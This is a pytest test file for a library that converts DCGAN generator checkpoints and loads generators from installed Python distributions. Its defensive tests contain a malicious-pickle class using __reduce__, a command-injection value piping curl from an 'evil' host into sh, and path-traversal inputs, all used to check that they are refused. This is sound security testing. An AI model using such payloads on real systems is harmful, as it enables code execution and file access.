import pytest
import torch

from ganaug.generators import GeneratorError, convert_checkpoint, generator_from_distribution


def state(network, prefix="main."):
    return {prefix + name: tensor for name, tensor in network.state_dict().items()}


@pytest.mark.parametrize("wrapped", ["bare", "netG_state_dict", "module.", "no counters"])
def test_a_dcgan_checkpoint_draws_the_images_of_its_own_code(tutorial, tmp_path, wrapped):
    content = state(tutorial, "module.main." if wrapped == "module." else "main.")
    if wrapped == "no counters":
        content = {name: tensor for name, tensor in content.items() if "num_batches" not in name}
    if wrapped == "netG_state_dict":
        content = {"netG_state_dict": content, "netD_state_dict": {"x": torch.ones(1)}, "epoch": 7}
    torch.save(content, tmp_path / "weights.tar")
    generator = convert_checkpoint(tmp_path / "weights.tar")
    latents = torch.randn(4, 6)
    torch.testing.assert_close(generator(latents), tutorial(latents[:, :, None, None]), rtol=1e-6, atol=1e-6)
    assert (generator.image_size, generator.latent_dim, generator.channels) == (16, 6, 3)


class Malice:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (str(self.path), "w"))


def test_a_malicious_pickle_is_refused_and_not_run(tmp_path):
    torch.save({"netG_state_dict": Malice(tmp_path / "was_run")}, tmp_path / "evil.pt")
    with pytest.raises(GeneratorError, match=r"evil.pt is refused.*Save a plain state dict instead"):
        convert_checkpoint(tmp_path / "evil.pt")
    assert not (tmp_path / "was_run").exists()


def test_damaged_and_foreign_files_are_named(tutorial, tmp_path):
    path = tmp_path / "x.pt"
    with pytest.raises(GeneratorError, match="there is no file"):
        convert_checkpoint(path)
    torch.save(state(tutorial), path)
    whole = path.read_bytes()
    for content in (whole[: len(whole) // 2], b"", b"hello"):
        path.write_bytes(content)
        with pytest.raises(GeneratorError, match=r"x\.pt"):
            convert_checkpoint(path)
    torch.save({"encoder.0.weight": torch.ones(4, 2)}, path)
    with pytest.raises(GeneratorError, match=r"does not know: encoder.0.weight \(4, 2\)\. Known: DCGAN"):
        convert_checkpoint(path)
    torch.save([1, 2], path)
    with pytest.raises(GeneratorError, match="does not know: list"):
        convert_checkpoint(path)


def test_a_generator_comes_out_of_an_installed_distribution(distribution, tutorial):
    latents = torch.randn(2, 6)
    generator = generator_from_distribution(**distribution)
    torch.testing.assert_close(generator(latents), tutorial(latents[:, :, None, None]), rtol=1e-6, atol=1e-6)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"distribution": "no-such-faces"}, "distribution no-such-faces, which is missing"),
        ({"path": "toy_faces/other.tar"}, "toy-faces 2.0 has no toy_faces/other.tar"),
        ({"file_sha256": "0" * 64}, "expected 0000000"),
    ],
)
def test_what_is_missing_is_named_with_the_way_to_get_it(distribution, change, message):
    wanted = {**distribution, **change}
    with pytest.raises(GeneratorError) as caught:
        generator_from_distribution(**wanted)
    assert message in str(caught.value)
    assert f'pip install --no-deps "{wanted["distribution"]}==2.0"' in str(caught.value)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"path": "../secret.tar"}, "should lie inside it, got '../secret.tar'"),
        ({"path": "/secret.tar"}, "should lie inside it, got '/secret.tar'"),
        ({"distribution": 'x"; curl evil | sh; "'}, "is not the name and version of a Python distribution"),
        ({"version": "2.0; true"}, "is not the name and version of a Python distribution"),
    ],
)
def test_a_source_that_reaches_out_is_refused_and_no_command_is_made_of_it(distribution, change, message):
    with pytest.raises(GeneratorError) as caught:
        generator_from_distribution(**{**distribution, **change})
    assert message in str(caught.value) and "pip install" not in str(caught.value)
